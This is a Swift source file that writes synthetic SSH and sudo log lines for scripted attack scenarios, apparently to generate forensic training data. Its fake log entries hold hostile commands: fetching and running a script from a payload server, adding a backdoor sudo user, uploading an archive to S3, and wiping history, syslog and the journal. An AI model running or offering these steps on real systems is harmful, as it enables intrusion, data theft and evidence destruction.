/// Writes the lines of an ``AttackStory``'s acts, in the formats the host's daemons use.
enum AttackStoryWriter {
    /// Writes every line of `act`, which starts at `time`.
    static func write(_ act: AttackStory.Act, of story: AttackStory, at time: Int64,
                      context: inout HostContext, timeline: inout LineTimeline) {
        switch act {
        case .passwordLeak:
            passwordLeak(story, at: time, context: &context, timeline: &timeline)
        case .bruteForceAndCompromise:
            bruteForceAndCompromise(story, at: time, context: &context, timeline: &timeline)
        case .exfiltrationAndCleanup:
            exfiltrationAndCleanup(story, at: time, context: &context, timeline: &timeline)
        case .lateralLogin:
            lateralLogin(story, at: time, context: &context, timeline: &timeline)
        }
    }

    /// PuTTY's "login as:" prompt gets the password; sshd logs it as an invalid user name. The person
    /// then logs in properly, with the same password, from the same workstation.
    private static func passwordLeak(_ story: AttackStory, at time: Int64, context: inout HostContext,
                                     timeline: inout LineTimeline) {
        let typed = Array(story.leakedPassword.utf8)
        let pid = context.state.newProcessID(&context.random)
        let port = context.random.between(50_000, 59_999)
        SSHActivity.passwordAttempt(at: time, address: story.leakSourceAddress, port: port, user: typed,
                                        isExistingAccount: false, pid: pid, context: &context, timeline: &timeline)
        let loginTime = time + 24
        let loginPid = context.state.newProcessID(&context.random)
        let loginPort = port + context.random.between(3, 12)
        let account = story.account
        let session = SSHActivity.openSession(at: loginTime, pid: loginPid, userName: account.nameBytes, uid: account.uid,
                                              address: story.leakSourceAddress, port: loginPort, authentication: .password,
                                              context: &context, timeline: &timeline)
        SSHActivity.closeSession(at: loginTime + 371, pid: loginPid, userName: account.nameBytes,
                                 address: story.leakSourceAddress, port: loginPort, session: session,
                                 context: &context, timeline: &timeline)
    }

    private static func bruteForceAndCompromise(_ story: AttackStory, at time: Int64, context: inout HostContext,
                                                timeline: inout LineTimeline) {
        let address = story.attackerAddress
        let existing = Set(context.profile.existingAccountNames)
        for attempt in 0..<story.failedAttempts {
            let moment = time + Int64(attempt) * AttackStory.secondsBetweenGuesses + Int64(context.random.below(6))
            let user = Array(story.guessedUserNames[attempt % story.guessedUserNames.count].utf8)
            let pid = context.state.newProcessID(&context.random)
            let port = context.random.between(32_768, 60_999)
            let isExisting = existing.contains(user)
            if isExisting && attempt % 3 == 0 {
                repeatedFailures(at: moment, user: user, address: address, port: port, pid: pid,
                                 context: &context, timeline: &timeline)
            } else {
                SSHActivity.passwordAttempt(at: moment, address: address, port: port, user: user,
                                                isExistingAccount: isExisting, pid: pid, context: &context, timeline: &timeline)
            }
        }
        let login = story.acceptedLoginTime(actStart: time)
        let account = story.account
        let pid = context.state.newProcessID(&context.random)
        let port = context.random.between(32_768, 60_999)
        let session = SSHActivity.openSession(at: login, pid: pid, userName: account.nameBytes, uid: account.uid,
                                              address: address, port: port, authentication: .password,
                                              context: &context, timeline: &timeline)
        let terminal = 1
        let home = account.homeBytes
        func sudo(_ offset: Int64, _ command: String, seconds: Int) {
            AdministratorActivity.sudoCommand(at: login + offset, account: account, terminal: terminal, folder: home,
                                              command: Array(command.utf8), sessionSeconds: seconds,
                                              context: &context, timeline: &timeline)
        }
        // `sudo -l` is logged with the pseudo-command `list` and opens no PAM session.
        context.begin(&timeline, at: login + AttackStory.listPrivilegesOffset, .auth, ProgramName.sudo, pid: nil)
        timeline.append(account.sudoColumnBytes)
        timeline.append(" : TTY=pts/1 ; PWD=")
        timeline.append(home)
        timeline.append(" ; USER=root ; COMMAND=list")
        timeline.end()
        sudo(AttackStory.rootShellOffset, "/bin/bash", seconds: 155)
        let payload = "http://\(story.payloadServer)/x.sh"
        sudo(AttackStory.downloadOffset, "/usr/bin/wget -q \(payload) -O /tmp/.x.sh", seconds: 2)
        sudo(AttackStory.runPayloadOffset, "/bin/bash /tmp/.x.sh", seconds: 31)
        let user = story.persistenceUser
        let uid = story.persistenceUID
        sudo(AttackStory.addUserOffset, "/usr/sbin/useradd -m -s /bin/bash \(user)", seconds: 1)
        let addUserPid = context.state.newProcessID(&context.random)
        context.line(&timeline, at: login + AttackStory.addUserOffset, .auth, ProgramName.useradd, pid: addUserPid,
                     text: "new group: name=\(user), GID=\(uid)")
        context.line(&timeline, at: login + AttackStory.addUserOffset, .auth, ProgramName.useradd, pid: addUserPid,
                     text: "new user: name=\(user), UID=\(uid), GID=\(uid), home=/home/\(user), shell=/bin/bash, from=/dev/pts/\(terminal)")
        sudo(AttackStory.addToSudoOffset, "/usr/sbin/usermod -aG sudo \(user)", seconds: 1)
        let userModPid = context.state.newProcessID(&context.random)
        context.line(&timeline, at: login + AttackStory.addToSudoOffset, .auth, ProgramName.usermod, pid: userModPid,
                     text: "add '\(user)' to group 'sudo'")
        context.line(&timeline, at: login + AttackStory.addToSudoOffset, .auth, ProgramName.usermod, pid: userModPid,
                     text: "add '\(user)' to shadow group 'sudo'")
        sudo(AttackStory.setPasswordOffset, "/usr/bin/passwd \(user)", seconds: 9)
        context.line(&timeline, at: login + AttackStory.setPasswordOffset + 9, .auth, ProgramName.passwd,
                     pid: context.state.newProcessID(&context.random),
                     text: "pam_unix(passwd:chauthtok): password changed for \(user)")
        let stagingFolder = story.archivePath.split(separator: "/").dropLast().joined(separator: "/")
        sudo(AttackStory.archiveOffset - 12, "/usr/bin/mkdir -p /\(stagingFolder)", seconds: 0)
        sudo(AttackStory.archiveOffset, "/usr/bin/tar czf \(story.archivePath) \(story.dataFolder)", seconds: 41)
        SSHActivity.closeSession(at: login + AttackStory.logoutOffset, pid: pid, userName: account.nameBytes,
                                 address: address, port: port, session: session, context: &context, timeline: &timeline)
    }

    private static func exfiltrationAndCleanup(_ story: AttackStory, at time: Int64, context: inout HostContext,
                                               timeline: inout LineTimeline) {
        let address = story.attackerAddress
        let account = story.account
        // Connection one: the sftp client fetches the archive.
        let pid = context.state.newProcessID(&context.random)
        let port = context.random.between(32_768, 60_999)
        let session = SSHActivity.openSession(at: time, pid: pid, userName: account.nameBytes, uid: account.uid,
                                              address: address, port: port, authentication: .password,
                                              context: &context, timeline: &timeline)
        context.line(&timeline, at: time, .auth, context.sshdProgram(at: time), pid: pid,
                     text: "subsystem request for sftp by user \(account.name)")
        let sftpPid = context.state.newProcessID(&context.random)
        context.line(&timeline, at: time, .auth, ProgramName.sftpServer, pid: sftpPid,
                     text: "session opened for local user \(account.name) from [\(address)]")
        context.line(&timeline, at: time + AttackStory.sftpOpenOffset, .auth, ProgramName.sftpServer, pid: sftpPid,
                     text: "open \"\(story.archivePath)\" flags READ mode 0666")
        context.line(&timeline, at: time + AttackStory.sftpCloseOffset, .auth, ProgramName.sftpServer, pid: sftpPid,
                     text: "close \"\(story.archivePath)\" bytes read \(story.archiveBytes) written 0")
        context.line(&timeline, at: time + AttackStory.sftpCloseOffset + 2, .auth, ProgramName.sftpServer, pid: sftpPid,
                     text: "session closed for local user \(account.name) from [\(address)]")
        SSHActivity.closeSession(at: time + AttackStory.sftpCloseOffset + 2, pid: pid, userName: account.nameBytes,
                                 address: address, port: port, session: session, context: &context, timeline: &timeline)

        // Connection two: upload elsewhere, then wipe the traces.
        let login = time + AttackStory.returnLoginOffset
        let secondPid = context.state.newProcessID(&context.random)
        let secondPort = context.random.between(32_768, 60_999)
        let secondSession = SSHActivity.openSession(at: login, pid: secondPid, userName: account.nameBytes, uid: account.uid,
                                                    address: address, port: secondPort, authentication: .password,
                                                    context: &context, timeline: &timeline)
        func sudo(_ offset: Int64, _ command: String, seconds: Int) {
            AdministratorActivity.sudoCommand(at: login + offset, account: account, terminal: 2, folder: account.homeBytes,
                                              command: Array(command.utf8), sessionSeconds: seconds,
                                              context: &context, timeline: &timeline)
        }
        let archiveName = story.archivePath.split(separator: "/").last.map(String.init) ?? "data.tgz"
        sudo(AttackStory.cloudUploadOffset,
             "/usr/bin/env AWS_ACCESS_KEY_ID=\(AttackStory.accessKeyID) AWS_SECRET_ACCESS_KEY=\(AttackStory.secretAccessKey) /usr/local/bin/aws s3 cp \(story.archivePath) s3://\(story.bucket)/\(archiveName)",
             seconds: 24)
        sudo(AttackStory.removeFilesOffset, "/usr/bin/rm -f \(story.archivePath) /tmp/.x.sh", seconds: 0)
        sudo(AttackStory.removeHistoryOffset, "/usr/bin/rm -f /root/.bash_history", seconds: 0)
        sudo(AttackStory.truncateSyslogOffset, "/usr/bin/truncate -s 0 /var/log/syslog", seconds: 0)
        let vacuum = login + AttackStory.vacuumJournalOffset
        sudo(AttackStory.vacuumJournalOffset, "/usr/bin/journalctl --vacuum-time=1s", seconds: 1)
        let journal = "/var/log/journal/\(context.profile.machineIdentifier)"
        let journald = context.profile.daemonProcessIDs.journald
        var freed = 0
        let sequenceID = String(context.profile.machineIdentifier.reversed())
        for index in 0..<3 {
            let firstEntry = String(0x1_a2b3 + index * 0x4_c1d2, radix: 16)
            let firstTime = String(0x6_2f1e_0a3b_c000 + index * 0x8_6400_0000, radix: 16)
            let size = [16, 24, 72][index]
            freed += size
            context.line(&timeline, at: vacuum, .syslog, ProgramName.systemdJournald, pid: journald,
                         text: "Deleted archived journal \(journal)/system@\(sequenceID)-\(zeroPadded(firstEntry))-\(zeroPadded(firstTime)).journal (\(size).0M).")
        }
        context.line(&timeline, at: vacuum, .syslog, ProgramName.systemdJournald, pid: journald,
                     text: "Vacuuming done, freed \(freed).0M of archived journals from \(journal).")
        SSHActivity.closeSession(at: login + AttackStory.finalLogoutOffset,
                                 pid: secondPid, userName: account.nameBytes, address: address, port: secondPort,
                                 session: secondSession, context: &context, timeline: &timeline)
    }

    /// Three passwords on one connection for an existing account: Ubuntu's rsyslog folds the two
    /// identical follow-ups into `message repeated 2 times: [ … ]`; Debian logs them all.
    private static func repeatedFailures(at time: Int64, user: [UInt8], address: IPv4Address, port: Int, pid: Int,
                                         context: inout HostContext, timeline: inout LineTimeline) {
        let program = context.sshdProgram(at: time)
        context.begin(&timeline, at: time, .auth, program, pid: pid)
        timeline.append("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=")
        timeline.append(address: address)
        timeline.append("  user=")
        timeline.append(user)
        timeline.end()
        func failure(at moment: Int64, repeated: Bool) {
            context.begin(&timeline, at: moment, .auth, program, pid: pid)
            if repeated { timeline.append("message repeated 2 times: [ ") }
            timeline.append("Failed password for ")
            timeline.append(user)
            timeline.append(" from ")
            SSHActivity.appendAddressAndPort(address, port, &timeline)
            timeline.append(" ssh2")
            if repeated { timeline.append("]") }
            timeline.end()
        }
        failure(at: time + 2, repeated: false)
        if context.profile.distribution == .ubuntu {
            failure(at: time + 8, repeated: true)
        } else {
            failure(at: time + 5, repeated: false)
            failure(at: time + 8, repeated: false)
        }
        context.begin(&timeline, at: time + 9, .auth, program, pid: pid)
        timeline.append("Connection closed by authenticating user ")
        timeline.append(user)
        timeline.append(byte: UInt8(ascii: " "))
        SSHActivity.appendAddressAndPort(address, port, &timeline)
        timeline.append(" [preauth]")
        timeline.end()
    }

    /// The service account's key used from the compromised host to log in here.
    private static func lateralLogin(_ story: AttackStory, at time: Int64, context: inout HostContext,
                                     timeline: inout LineTimeline) {
        guard let source = story.lateralSourceAddress else { return }
        let account = story.account
        let pid = context.state.newProcessID(&context.random)
        let port = context.random.between(32_768, 60_999)
        let session = SSHActivity.openSession(at: time, pid: pid, userName: account.nameBytes, uid: account.uid,
                                              address: source, port: port,
                                              authentication: .publickey(fingerprint: account.keyFingerprint),
                                              context: &context, timeline: &timeline)
        SSHActivity.closeSession(at: time + 121, pid: pid, userName: account.nameBytes, address: source, port: port,
                                 session: session, context: &context, timeline: &timeline)
    }

    private static func zeroPadded(_ hexadecimal: String) -> String {
        String(repeating: "0", count: max(0, 16 - hexadecimal.count)) + hexadecimal
    }
}
